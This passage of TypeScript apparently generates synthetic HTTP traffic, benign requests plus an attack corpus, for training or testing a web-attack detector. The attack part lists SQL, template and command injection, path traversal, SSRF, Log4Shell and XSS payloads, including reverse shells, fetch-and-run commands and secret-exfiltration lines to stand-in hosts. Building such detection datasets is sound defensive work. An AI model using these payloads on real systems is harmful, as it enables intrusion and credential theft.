      { meetingId: uuid(), text: pick(MINUTES), attendees: [pick(NAMES), pick(NAMES), pick(NAMES)] },
      client('browser'),
    ),
  () =>
    jsonReq(
      'prose',
      'POST',
      H.game,
      `/api/guilds/${id()}/chat`,
      { channel: 'general', text: `${pick(CHAT)} ${pick(CHAT)}` },
      client('app'),
    ),
  () =>
    jsonReq(
      'prose',
      'POST',
      H.travel,
      '/v1/reviews',
      { hotelId: id(), rating: int(1, 5), text: pick([...REVIEWS, ...PROSE]) },
      client('browser'),
    ),
  () =>
    jsonReq(
      'prose',
      'PUT',
      H.hr,
      `/api/v2/me/profile`,
      {
        name: pick(NAMES),
        about: `${pick(PROSE)} ${pick(PROSE)}`,
        pronouns: pick(['she/her', 'he/him', 'they/them']),
      },
      client('browser'),
    ),
]);

// form (urlencoded + multipart)
emit(28, [
  () =>
    build(
      'form',
      'POST',
      H.hr,
      '/careers/apply',
      form([
        ['name', pick(NAMES)],
        ['email', `${chars(6)}@mail.example`],
        ['position', pick(['Senior DBA', 'Exec Assistant'])],
        ['message', pick(PROSE)],
      ]),
      'application/x-www-form-urlencoded',
      client('browser', 'anon', 'none'),
    ),
  () =>
    build(
      'form',
      'POST',
      H.bank,
      '/oauth/token',
      form([
        ['grant_type', 'password'],
        ['username', `${chars(6)}@mail.example`],
        [
          'password',
          pick([
            'Tr0ub4dor&3',
            'correct horse battery staple',
            "p@ss'w0rd!",
            'S3lect*Union#1',
            'Kraków#2025!',
          ]),
        ],
        ['client_id', 'northbank-web'],
        ['scope', 'accounts payments'],
      ]),
      'application/x-www-form-urlencoded',
      client('browser', 'anon', 'none'),
    ),
  () =>
    build(
      'form',
      'POST',
      H.travel,
      '/contact',
      form([
        ['subject', pick(['Booking change', 'Refund'])],
        ['booking_ref', `WF-${int(10000, 99999)}`],
        ['body', pick([...TICKETS, ...PROSE_INTL])],
        ['consent', 'on'],
      ]),
      'application/x-www-form-urlencoded; charset=UTF-8',
      client('browser', 'anon', 'none'),
    ),
  () => {
    const m = multipart([
      { name: 'candidateId', value: uuid() },
      {
        name: 'cv',
        filename: `${pick(['CV', 'Lebenslauf', 'résumé'])}_${chars(5)}.txt`,
        type: 'text/plain',
        value: `${pick(NAMES)}\n\nExperience\n- DBA, 2019–2025: ${pick(HR_NOTES)}\n- Skills: SQL (SELECT/UNION/HAVING), Bash, Python`,
      },
      { name: 'coverLetter', value: pick(PROSE) },
    ]);
    return build('form', 'POST', H.hr, '/api/v2/uploads', m.body, m.ct, client('browser'));
  },
  () => {
    const m = multipart([
      { name: 'assignment', value: String(int(1, 40)) },
      {
        name: 'file',
        filename: pick(['main.py', 'query.sql', 'lab3.c', 'run.sh']),
        type: 'application/octet-stream',
        value: pick(STUDENT_CODE),
      },
    ]);
    return build('form', 'POST', H.lms, '/api/uploads/submission', m.body, m.ct, client('browser'));
  },
  () => {
    const m = multipart([
      { name: 'incident', value: `INC-${int(100, 9999)}` },
      { name: 'attachment', filename: 'api-5xx.log', type: 'text/plain', value: at(CODE_COMMENTS, 11) },
      { name: 'note', value: 'Logs from the pod before we killed it' },
    ]);
    return build('form', 'POST', H.devops, '/api/attachments', m.body, m.ct, client('browser'));
  },
  () =>
    build(
      'form',
      'POST',
      H.cms,
      '/wp-admin/admin-ajax.php',
      form([
        ['action', 'save_draft'],
        ['post_id', String(int(1, 9000))],
        ['content', html()],
        ['_wpnonce', hex(10)],
      ]),
      'application/x-www-form-urlencoded; charset=UTF-8',
      client('browser'),
      { 'x-requested-with': 'XMLHttpRequest' },
    ),
]);

// merge-patch / json-patch
emit(13, [
  () =>
    jsonReq(
      'merge-patch',
      'PATCH',
      H.hr,
      `/api/v2/candidates/${id()}`,
      {
        phone: null,
        headline: pick([
          'Exec Assistant',
          'DBA (PostgreSQL)',
          'Script supervisor',
          'Union organiser turned HR lead',
        ]),
        address: { city: pick(CITIES), line2: null },
        notes: rnd() < 0.5 ? pick(HR_NOTES) : null,
      },
      client('browser'),
      'application/merge-patch+json',
    ),
  () =>
    jsonReq(
      'merge-patch',
      'PATCH',
      H.game,
      `/api/players/${id()}/settings`,
      {
        keybinds: {
          attack: pick(['Q', 'E', '1']),
          sleep: pick(['Z', 'X']),
          [pick(['kill', 'emote', 'ping'])]: null,
        },
        chat: { profanityFilter: pick(['strict', 'moderate', 'off']), motd: pick(CHAT) },
      },
      client('app'),
      'application/merge-patch+json',
    ),
  () =>
    jsonReq(
      'merge-patch',
      'PATCH',
      H.analytics,
      `/api/dashboards/${id()}`,
      { title: 'Select customers – EMEA (v2)', widgets: null, description: pick(PROSE) },
      client('browser'),
      'application/merge-patch+json',
    ),
]);
emit(13, [
  () =>
    jsonReq(
      'json-patch',
      'PATCH',
      H.hr,
      `/api/v2/candidates/${id()}`,
      [
        { op: 'replace', path: '/headline', value: pick(['Senior DBA', 'Exec Assistant', 'Data engineer']) },
        { op: 'add', path: '/tags/-', value: pick(['sql', 'relocation', 'visa', 'union-rep']) },
        { op: pick(['remove', 'replace']), path: '/phone', value: `+44 7${int(100000000, 999999999)}` },
        { op: 'add', path: '/notes/-', value: pick(HR_NOTES) },
      ],
      client('browser'),
      'application/json-patch+json',
    ),
  () =>
    jsonReq(
      'json-patch',
      'PATCH',
      H.logistics,
      `/v3/shipments/PP-${id()}`,
      [
        { op: 'test', path: '/status', value: 'in_transit' },
        { op: 'replace', path: '/instructions', value: pick(TICKETS) },
        { op: 'copy', from: '/consignee/address', path: '/billing/address' },
      ],
      client('server', 'svc', 'key'),
      'application/json-patch+json',
    ),
  () =>
    jsonReq(
      'json-patch',
      'PATCH',
      H.devops,
      `/api/runbooks/${id()}`,
      [
        {
          op: 'add',
          path: '/steps/2',
          value: {
            title: pick(['Restart worker', 'Drain node', 'Check replica lag']),
            text: pick([
              'Run `systemctl restart worker` and wait 30 s; if still stuck, `kill -9` the PID.',
              'Run `kubectl drain node-7 --ignore-daemonsets --delete-emptydir-data`, then wait for pods to reschedule.',
              'psql: `SELECT now() - pg_last_xact_replay_timestamp() AS lag;` — page the DBA if > 30 s.',
            ]),
          },
        },
        { op: 'move', from: '/steps/5', path: '/steps/0' },
        { op: 'replace', path: '/labels~1env', value: 'prod' },
      ],
      client('browser'),
      'application/json-patch+json',
    ),
]);

// ndjson
function ndjson(lines: Json[]): string {
  return `${lines.map((l) => JSON.stringify(l)).join('\n')}\n`;
}
emit(11, [
  () =>
    build(
      'ndjson',
      'POST',
      H.analytics,
      '/api/ingest/events',
      ndjson([
        { event: 'search', ts: isoTime(), props: { q: pick(SEARCH_TERMS) } },
        { event: 'page_view', ts: isoTime(), props: { path: '/pricing', ref: 'https://www.google.com/' } },
        { event: 'checkout_started', ts: isoTime(), props: { plan: pick(['select', 'union', 'pro']) } },
      ]),
      'application/x-ndjson',
      client('server', 'svc', 'key'),
    ),
  () =>
    build(
      'ndjson',
      'POST',
      H.devops,
      '/api/logs/bulk',
      ndjson([
        {
          '@timestamp': isoTime(),
          level: 'error',
          msg: 'query failed: syntax error at or near "WHERE"',
          service: 'billing',
        },
        {
          '@timestamp': isoTime(),
          level: 'warn',
          msg: 'worker killed by OOM (exit 137); will retry after sleep 10s',
          service: 'jobs',
        },
        {
          '@timestamp': isoTime(),
          level: 'info',
          msg: 'GET /api/items?sort=name&order=desc 200 12ms',
          service: 'api',
        },
      ]),
      'application/x-ndjson',
      client('server', 'svc', 'key'),
    ),
  () =>
    build(
      'ndjson',
      'POST',
      H.game,
      '/api/telemetry',
      ndjson([
        { t: int(0, 99999), e: 'kill', attacker: 'Kira', victim: 'drop_table_bob' },
        { t: int(0, 99999), e: 'chat', ch: 'raid', text: pick(CHAT) },
        { t: int(0, 99999), e: 'loot', item: 'Ring of Union', from: 'Boss 2' },
      ]),
      'application/x-ndjson',
      client('app'),
    ),
]);

// webhook
emit(22, [
  () =>
    jsonReq(
      'webhook',
      'POST',
      H.bank,
      '/webhooks/stripe',
      {
        id: `evt_${chars(24, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789')}`,
        object: 'event',
        api_version: '2024-06-20',
        type: pick(['payment_intent.succeeded', 'charge.refunded', 'invoice.payment_failed']),
        data: {
          object: {
            id: `pi_${chars(24)}`,
            amount: int(100, 900000),
            currency: 'eur',
            description: pick(['Select plan – annual', 'Union dues', "O'Reilly Media order 7781"]),
            metadata: { order_id: `ORD-${id()}` },
          },
        },
        livemode: true,
      },
      {
        ua: 'Stripe/1.0 (+https://stripe.com/docs/webhooks)',
        headers: { accept: '*/*; q=0.5, application/xml' },
      },
      'application/json; charset=utf-8',
      { 'stripe-signature': `t=${1735000000 + int(0, 40000000)},v1=${hex(64)}` },
    ),
  () =>
    jsonReq(
      'webhook',
      'POST',
      H.devops,
      '/hooks/github',
      {
        action: 'created',
        issue: {
          number: int(1, 4000),
          title: pick(['Slow query on /orders', 'XSS in comment preview?', 'Cron killed by OOM']),
        },
        comment: {
          id: int(1, 9999999),
          body: pick(CODE_COMMENTS),
          user: { login: pick(['kira-dev', 'obrien', 'renee-ds']) },
        },
        repository: { full_name: 'acme/api' },
      },
      { ua: `GitHub-Hookshot/${hex(7)}`, headers: { accept: '*/*' } },
      'application/json',
      {
        'x-github-event': 'issue_comment',
        'x-github-delivery': uuid(),
        'x-hub-signature-256': `sha256=${hex(64)}`,
      },
    ),
  () =>
    build(
      'webhook',
      'POST',
      H.devops,
      '/hooks/slack/commands',
      form([
        ['token', chars(24)],
        ['team_id', `T${chars(8).toUpperCase()}`],
        ['channel_name', 'incidents'],
        ['user_name', pick(['kira', 'sean.oleary'])],
        ['command', pick(['/deploy', '/incident', '/oncall'])],
        [
          'text',
          pick([
            'api prod --rollback',
            'sev2 billing: replicas lagging, select queries timing out',
            'who',
            'kill job 4412',
          ]),
        ],
        ['response_url', `https://hooks.slack.com/commands/T0/${int(1e9, 9e9)}/${chars(24)}`],
      ]),
      'application/x-www-form-urlencoded',
      { ua: 'Slackbot 1.0 (+https://api.slack.com/robots)', headers: { accept: 'application/json,*/*' } },
      {
        'x-slack-request-timestamp': String(1735000000 + int(0, 40000000)),
        'x-slack-signature': `v0=${hex(64)}`,
      },
    ),
  () =>
    build(
      'webhook',
      'POST',
      H.travel,
      '/hooks/twilio/sms',
      form([
        ['MessageSid', `SM${hex(32)}`],
        ['From', `+35191${int(1000000, 9999999)}`],
        ['To', '+351300000000'],
        [
          'Body',
          pick([
            'STOP',
            'Please update my booking to Thursday',
            'Where is the shuttle? Wait or take a taxi?',
            'Cancel ' + `WF-${int(10000, 99999)}`,
          ]),
        ],
      ]),
      'application/x-www-form-urlencoded',
      { ua: 'TwilioProxy/1.1', headers: { accept: '*/*' } },
      { 'x-twilio-signature': b64(hex(20)) },
    ),
  () =>
    jsonReq(
      'webhook',
      'POST',
      H.logistics,
      '/hooks/shopify/orders-create',
      {
        id: int(1e9, 9e9),
        email: `${chars(6)}@mail.example`,
        note: pick([
          'Leave with neighbour',
          'Gift — please do not include the invoice',
          'Select express if possible',
        ]),
        shipping_address: { name: pick(NAMES), address1: "12 O'Connell St", city: pick(CITIES) },
        line_items: [{ title: 'Ping pong table', quantity: 1, price: '249.00' }],
      },
      { ua: 'Shopify-Captain-Hook', headers: { accept: '*/*' } },
      'application/json',
      {
        'x-shopify-topic': 'orders/create',
        'x-shopify-hmac-sha256': b64(hex(32)),
        'x-shopify-shop-domain': 'parcelpath.myshopify.com',
      },
    ),
  () =>
    jsonReq(
      'webhook',
      'POST',
      H.devops,
      '/hooks/sentry',
      {
        action: 'triggered',
        data: {
          event: {
            title: pick([
              "TypeError: Cannot read properties of undefined (reading 'map')",
              'OperationalError: (psycopg2) canceling statement due to statement timeout',
              'ProgrammingError: syntax error at or near "ORDER"',
            ]),
            event_id: hex(32),
            culprit: pick([
              'api/views.py in list_orders',
              'worker/tasks.py in sync_payees',
              'web/src/App.tsx in render',
            ]),
            exception: {
              values: [
                {
                  type: 'ProgrammingError',
                  value:
                    'syntax error at or near "ORDER"\nLINE 1: SELECT * FROM orders WHERE status = $1 ORDER ORDER BY id',
                  stacktrace: { frames: [{ filename: 'api/views.py', lineno: 88, function: 'list_orders' }] },
                },
              ],
            },
          },
        },
      },
      { ua: 'sentry/24.5.0 (https://sentry.io)', headers: { accept: '*/*' } },
      'application/json',
      { 'sentry-hook-resource': 'event_alert', 'sentry-hook-signature': hex(64) },
    ),
  () =>
    jsonReq(
      'webhook',
      'POST',
      H.devops,
      '/hooks/pagerduty',
      {
        event: {
          event_type: 'incident.triggered',
          data: {
            id: `Q${chars(13).toUpperCase()}`,
            title: pick(['CPU > 95% on db-1', 'Ping check failed: api.internal', 'Disk full: /var/log']),
            urgency: 'high',
            service: { summary: 'billing-api' },
          },
        },
      },
      { ua: 'PagerDuty-Webhook/V3.0', headers: { accept: '*/*' } },
      'application/json',
      { 'x-pagerduty-signature': `v1=${hex(64)}` },
    ),
]);

// ---------------------------------------------------------------------------------------------------------
// Attack corpus
// ---------------------------------------------------------------------------------------------------------

const attacks: Draft[] = [];
const MARK = 'H5MARKH5';

const PAYLOADS: Record<string, readonly string[]> = {
  sql: [
    "' OR '1'='1",
    "1' AND SLEEP(5)-- -",
    '1 UNION SELECT username,password FROM users--',
    "'; DROP TABLE users;--",
    "1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -",
    "1);WAITFOR DELAY '0:0:5'--",
    "' AND 1=CONVERT(int,(SELECT @@version))--",
    "1' ORDER BY 10-- -",
    '1 AND (SELECT 4564 FROM (SELECT(SLEEP(5)))QtKz)',
    "admin'--",
    "') OR pg_sleep(5)--",
    '1;SELECT pg_sleep(10)--',
    "' UNION ALL SELECT NULL,NULL,CONCAT(0x716a767071,IFNULL(CAST(user() AS NCHAR),0x20),0x7178627671)-- -",
    "1' AND 7481=(SELECT 7481 FROM PG_SLEEP(5))-- bEzq",
    '-1 OR 1=1',
    "x' AND (SELECT COUNT(*) FROM information_schema.tables)>0 AND 'a'='a",
    "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- -",
    'name,(select case when (1=1) then 1 else 1/0 end)',
  ],
  template: [
    '{{7*7}}',
    '${7*7}',
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    '<%= 7*7 %>',
    '#{7*7}',
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    '*{T(java.lang.System).getenv()}',
    "{% import os %}{{ os.popen('whoami').read() }}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    "{{request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read()}}",
    '{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen("id").read()}}',
    "#set($x=$class.inspect('java.lang.Runtime').type.getRuntime().exec('id'))",
    '{php}echo `id`;{/php}',
    '@(1+2)',
  ],
  command: [
    '; cat /etc/passwd',
    '| id',
    '$(curl -s http://203.0.113.50/x.sh | sh)',
    '`whoami`',
    '&& ping -c 10 127.0.0.1',
    '; nc -e /bin/sh 198.51.100.7 4444',
    '|| wget http://198.51.100.7/x -O /tmp/x;chmod +x /tmp/x;/tmp/x',
    ';bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
    '$(sleep 10)',
    '127.0.0.1;powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    'a.pdf; rm -rf /var/www/html',
    '8.8.8.8|cat${IFS}/etc/shadow',
    '|| curl http://oast.example/$(id|base64) ||',
    'main; python3 -c \'import os;os.system("id")\'',
    '%0aid%0a',
    "x' ; /bin/busybox telnetd -p 9999 -l /bin/sh ; '",
  ],
  'path-traversal': [
    '../../../../etc/passwd',
    '..%2f..%2f..%2f..%2fetc%2fpasswd',
    '....//....//....//etc/passwd',
    '..\\..\\..\\..\\windows\\win.ini',
    '/var/www/uploads/../../../etc/shadow',
    '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '..%252f..%252f..%252fetc%252fpasswd',
    '../../../../proc/self/environ',
    '..;/..;/WEB-INF/web.xml',
    '../../../../../../root/.ssh/id_rsa',
    '/..%c0%af../..%c0%af../etc/passwd',
    '../../app/.env',
    'C:\\..\\..\\..\\boot.ini',
    '..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts',
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    'http://127.0.0.1:6379/',
    'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A',
    'file:///etc/passwd',
    'http://[::1]:8080/admin',
    'http://0x7f000001/',
    'http://2130706433/server-status',
    'dict://localhost:11211/stat',
    'http://localhost:2375/containers/json',
    'http://169.254.169.254.nip.io/latest/meta-data/',
    'http://100.100.100.200/latest/meta-data/',
    'http://[fd00:ec2::254]/latest/meta-data/',
    'http://0177.0.0.1:8500/v1/agent/self',
    'http://169.254.170.2/v2/credentials',
    'http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets',
  ],
  log4shell: [
    '${jndi:ldap://198.51.100.7:1389/a}',
    '${${lower:j}ndi:${lower:l}dap://oast.example/x}',
    '${jndi:${lower:l}${lower:d}a${lower:p}://198.51.100.7/Exploit}',
    '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.7/a}',
    '${jndi:dns://oast.example/${env:AWS_SECRET_ACCESS_KEY}}',
    '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.7/b}',
    '${jndi:ldaps://c3n8.oast.example/${sys:java.version}}',
    '${${upper:j}ndi:${upper:r}mi://198.51.100.7/o}',
    '${jndi:ldap://${hostName}.oast.example/a}',
    '${${::-j}ndi:iiop://198.51.100.7:1050/x}',
  ],
  xss: [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(document.cookie)>',
    '<svg/onload=alert(1)>',
    'javascript:alert(document.domain)',
    '"><script src=//xss.example/x.js></script>',
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    '<details open ontoggle=alert(1)>',
    '<a href="javascript:fetch(\'//xss.example?c=\'+document.cookie)">click</a>',
    "'-alert(1)-'",
    '<body onload=alert`1`>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '"><svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<input autofocus onfocus=alert(1)>',
    '<img src="x" onerror="eval(atob(\'YWxlcnQoZG9jdW1lbnQuY29va2llKQ==\'))">',
  ],
};

/** Realistic field names per family: where an attacker would put the payload. */
const FIELDS: Record<string, readonly string[]> = {
  sql: ['email', 'sort', 'orderBy', 'accountId', 'search', 'reference', 'username', 'couponCode', 'region'],
  template: ['displayName', 'greeting', 'subject', 'name', 'signature', 'title', 'bio', 'message'],
  command: [
    'hostname',
    'filename',
    'target',
    'branch',
    'exportFormat',
    'archiveName',
    'pingHost',
    'convertTo',
  ],
  'path-traversal': [
    'file',
    'template',
    'attachmentPath',
    'avatar',
    'locale',
    'reportName',
    'download',
    'include',
  ],
  ssrf: [
    'webhookUrl',
    'avatarUrl',
    'callbackUrl',
    'importUrl',
    'logoUrl',
    'feedUrl',
    'imageUrl',
    'redirectUri',
  ],
  log4shell: ['username', 'deviceName', 'note', 'firstName', 'searchTerm', 'referrer', 'title', 'comment'],
  xss: ['bio', 'comment', 'displayName', 'title', 'text', 'description', 'headline', 'caption'],
};

interface Ctx {
  readonly host: string;
  readonly path: string;
  readonly method: string;
  readonly base: () => Record<string, Json>;
  readonly wrap: readonly string[];
}

const CTXS: readonly Ctx[] = [
  {
    host: H.travel,
    path: '/v1/bookings',
    method: 'POST',
    base: () => ({ offerId: `off_${chars(20)}`, currency: 'EUR' }),
    wrap: ['booking', 'travellers', 'profile'],
  },
  {
    host: H.hr,
    path: `/api/v2/candidates/${int(1000, 99999)}`,
    method: 'PUT',
    base: () => ({ stage: 'screen', source: 'career site' }),
    wrap: ['candidate', 'cv', 'contact'],
  },
  {
    host: H.bank,
    path: '/api/transfers',
    method: 'POST',
    base: () => ({ amount: { value: '120.00', currency: 'EUR' }, from: uuid() }),
    wrap: ['beneficiary', 'details', 'meta'],
  },
  {
    host: H.logistics,
    path: '/v3/shipments',
    method: 'POST',
    base: () => ({ reference: `ORD-${id()}`, service: 'express' }),
    wrap: ['consignee', 'address', 'options'],
  },
  {
    host: H.game,
    path: `/api/players/${int(1000, 99999)}`,
    method: 'PATCH',
    base: () => ({ settings: { language: 'en' } }),
    wrap: ['profile', 'customization', 'card'],
  },
  {
    host: H.analytics,
    path: `/api/dashboards/${int(1000, 99999)}`,
    method: 'PUT',
    base: () => ({ layout: 'grid', refresh: '5m' }),
    wrap: ['config', 'widgets', 'options'],
  },
  {
    host: H.devops,
    path: '/api/integrations',
    method: 'POST',
    base: () => ({ type: 'generic', enabled: true }),
    wrap: ['settings', 'delivery', 'target'],
  },
  {
    host: H.lms,
    path: `/api/courses/${int(100, 999)}/forum/posts`,
    method: 'POST',
    base: () => ({ courseId: int(100, 999), anonymous: false }),
    wrap: ['post', 'meta', 'attachments'],
  },
  {
    host: H.cms,
    path: '/api/articles',
    method: 'POST',
    base: () => ({ status: 'draft', locale: 'en' }),
    wrap: ['article', 'seo', 'fields'],
  },
];

const GQL_OPS = [
  {
    name: 'UpdateProfile',
    query:
      'mutation UpdateProfile($input: ProfileInput!) { updateProfile(input: $input) { id displayName bio } }',
    host: H.game,
  },
  {
    name: 'CreateBooking',
    query: 'mutation CreateBooking($input: BookingInput!) { createBooking(input: $input) { id status } }',
    host: H.travel,
  },
  {
    name: 'Search',
    query:
      'query Search($filter: SearchFilter!, $first: Int) { search(filter: $filter, first: $first) { nodes { id title } } }',
    host: H.cms,
  },
  {
    name: 'AddWebhook',
    query: 'mutation AddWebhook($input: WebhookInput!) { addWebhook(input: $input) { id url } }',
    host: H.devops,
  },
  {
    name: 'Candidates',
    query:
      'query Candidates($where: CandidateWhere, $orderBy: String) { candidates(where: $where, orderBy: $orderBy) { id name } }',
    host: H.hr,
  },
];

const GET_CTXS = [
  {
    host: H.travel,
    path: '/v1/hotels/search',
    extra: [
      ['city', 'Lisbon'],
      ['nights', '2'],
    ],
  },
  {
    host: H.hr,
    path: '/api/v2/candidates',
    extra: [
      ['page', '1'],
      ['per_page', '25'],
    ],
  },
  { host: H.bank, path: `/api/accounts/${int(1000, 99999)}/transactions`, extra: [['limit', '50']] },
  { host: H.logistics, path: '/v3/labels/download', extra: [['format', 'pdf']] },
  { host: H.analytics, path: '/api/charts/render', extra: [['width', '800']] },
  { host: H.cms, path: '/api/media/preview', extra: [['w', '640']] },
  { host: H.devops, path: '/api/incidents', extra: [['status', 'open']] },
  { host: H.game, path: '/api/leaderboard', extra: [['season', '14']] },
] as const;

function attackClient(): Client {
  const r = rnd();
  if (r < 0.3) return { ua: pick(BROWSER_UA), headers: client('browser').headers };
  if (r < 0.45)
    return {
      ua: 'sqlmap/1.8.4#stable (https://sqlmap.org)',
      headers: { accept: '*/*', authorization: `Bearer ${jwt('usr_attacker')}` },
    };
  if (r < 0.6)
    return {
      ua: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36',
      headers: {
        accept: '*/*',
        'accept-encoding': 'gzip, deflate, br',
        authorization: `Bearer ${jwt('usr_burp')}`,
      },
    };
  if (r < 0.75)
    return {
      ua: 'Fuzz Faster U Fool v2.1.0-dev',
      headers: { accept: '*/*', authorization: `Bearer ${jwt('usr_ffuf')}` },
    };
  if (r < 0.85)
    return {
      ua: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36',
      headers: { accept: 'application/json', authorization: `Bearer ${jwt('usr_nuclei')}` },
    };
  return client(pick<ClientKind>(['server', 'cli', 'app']), 'usr_x');
}

function attack(family: string, technique: string, d: Draft): void {
  attacks.push({ ...d, family, technique });
}

/** Serialise `value`, then splice `raw` (already JSON-string-escaped text, no quotes) where MARK is. */
function splice(value: Json, raw: string): string {
  return JSON.stringify(value).split(MARK).join(raw);
}

function jsonInner(s: string): string {
  return JSON.stringify(s).slice(1, -1);
}

const UNI_TARGETS: Record<string, string> = {
  sql: "' =-()",
  template: '{}$%#*',
  command: ';|$&`/',
  'path-traversal': './\\',
  ssrf: ':/.',
  log4shell: '${}:',
  xss: '<>="/()',
  nosql: '$',
  'prototype-pollution': '_',
};

function uEsc(c: string): string {
  return `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`;
}

/** `\u`-escape the family's special characters (odd i) or every character (even i) of a string. */
function uniEscape(s: string, family: string, all: boolean): string {
  const targets = UNI_TARGETS[family] ?? '';
  let out = '';
  for (const c of s) {
    if (all || targets.includes(c)) out += c.length === 1 ? uEsc(c) : jsonInner(c);
    else out += jsonInner(c);
  }
  return out;
}

function nest(keys: readonly string[], leaf: Json): Json {
  let v: Json = leaf;
  for (let i = keys.length - 1; i >= 0; i--) v = { [keys[i] as string]: v };
  return v;
}

function stringAttack(family: string, technique: string, p: string, i: number): void {
  const ctx = pick(CTXS);
  const field = pick(FIELDS[family] ?? ['value']);
  const c = attackClient();
  const body = (value: Json): Record<string, Json> => ({ ...ctx.base(), [field]: value });
  switch (technique) {
    case 'plain':
      return attack(family, technique, jsonReq('attack', ctx.method, ctx.host, ctx.path, body(p), c));
    case 'nested': {
      const obj = {
        ...ctx.base(),
        ...(nest([...ctx.wrap.slice(0, int(1, 3)), field], p) as Record<string, Json>),
      };
      return attack(family, technique, jsonReq('attack', ctx.method, ctx.host, ctx.path, obj, c));
    }
    case 'key': {
      const holder = pick(['metadata', 'labels', 'customFields', 'attributes', 'filters']);
      const obj = { ...ctx.base(), [holder]: { [p]: pick(['1', 'true', 'x', 'en']) } };
      return attack(family, technique, jsonReq('attack', ctx.method, ctx.host, ctx.path, obj, c));
    }
    case 'array': {
      const holder = pick(['tags', 'recipients', 'items', 'notes', 'aliases']);
      const obj = { ...ctx.base(), [holder]: [pick(['vip', 'travel', 'alpha']), p, pick(['beta', 'q3'])] };
      return attack(family, technique, jsonReq('attack', ctx.method, ctx.host, ctx.path, obj, c));
    }
    case 'unicode-escape': {
      const text = splice(body(MARK), uniEscape(p, family, i % 2 === 0));
      return attack(
        family,
        technique,
        build('attack', ctx.method, ctx.host, ctx.path, text, 'application/json', c),
      );
    }
    case 'json-in-string': {
      const holder = pick(['metadata', 'payload', 'extra', 'settingsJson', 'state']);
      const obj = { ...ctx.base(), [holder]: JSON.stringify({ [field]: p, v: int(1, 3) }) };
      return attack(family, technique, jsonReq('attack', ctx.method, ctx.host, ctx.path, obj, c));
    }
    case 'base64': {
      const r = rnd();
      const obj =
        r < 0.4
          ? {
              ...ctx.base(),
              attachments: [
                { filename: pick(['note.txt', 'export.csv', 'info.json']), encoding: 'base64', data: b64(p) },
              ],
            }
          : r < 0.7
            ? { ...ctx.base(), cursor: b64(JSON.stringify({ [field]: p, after: int(1, 999) })) }
            : { ...ctx.base(), [`${field}B64`]: b64(p) };
      return attack(family, technique, jsonReq('attack', ctx.method, ctx.host, ctx.path, obj, c));
    }
    case 'graphql-variable': {
      const op = pick(GQL_OPS);
      const vars =
        op.name === 'Search'
          ? { filter: { [field]: p }, first: 10 }
          : op.name === 'Candidates'
            ? { where: { [field]: p }, orderBy: 'name' }
            : { input: { [field]: p } };
      return attack(
        family,
        technique,
        jsonReq(
          'attack',
          'POST',
          op.host,
          '/graphql',
          { operationName: op.name, query: op.query, variables: vars },
          c,
        ),
      );
    }
    case 'double-encoded': {
      if (i % 2 === 0)
        return attack(
          family,
          technique,
          jsonReq('attack', ctx.method, ctx.host, ctx.path, body(pct(pct(p))), c),
        );
      const g = pick(GET_CTXS);
      return attack(
        family,
        technique,
        getReq(
          'attack',
          g.host,
          `${g.path}?${g.extra.map(([k, v]) => `${k}=${v}`).join('&')}&${field}=${pct(pct(p))}`,
          c,
        ),
      );
    }
    case 'query-param': {
      const g = pick(GET_CTXS);
      const params: Array<[string, string]> = [
        ...g.extra.map(([k, v]): [string, string] => [k, v]),
        [field, p],
      ];
      const style = c.ua.startsWith('sqlmap') || rnd() < 0.5 ? 'form' : 'uri';
      return attack(family, technique, getReq('attack', g.host, `${g.path}?${qs(params, style)}`, c));
    }
    case 'header': {
      const g = pick(GET_CTXS);
      const name = pick(
        family === 'sql'
          ? ['x-forwarded-for', 'referer', 'x-client-id']
          : family === 'path-traversal'
            ? ['x-original-url', 'x-rewrite-url', 'x-file-name']
            : family === 'ssrf'
              ? ['x-callback-url', 'referer', 'x-forwarded-host']
              : family === 'xss'
                ? ['referer', 'user-agent']
                : ['user-agent', 'x-api-version', 'referer', 'x-forwarded-for', 'x-request-id'],
      );
      const value =
        name === 'x-forwarded-host'
          ? (p.replace(/^[a-z]+:\/\//, '').split('/')[0] ?? p)
          : name === 'referer' && !/^[a-z]+:/.test(p)
            ? `https://www.google.com/search?q=${p}`
            : p;
      return attack(
        family,
        technique,
        getReq('attack', g.host, `${g.path}?${qs(g.extra)}`, c, { [name]: value }),
      );
    }
    case 'form': {
      const text = form([
        [field, p],
        ['submit', pick(['Save', 'Send', 'Update'])],
        ['csrf_token', hex(32)],
      ]);
      return attack(
        family,
        technique,
        build(
          'attack',
          'POST',
          ctx.host,
          pick(['/account/settings', '/contact', '/profile/update', '/export']),
          text,
          'application/x-www-form-urlencoded',
          c,
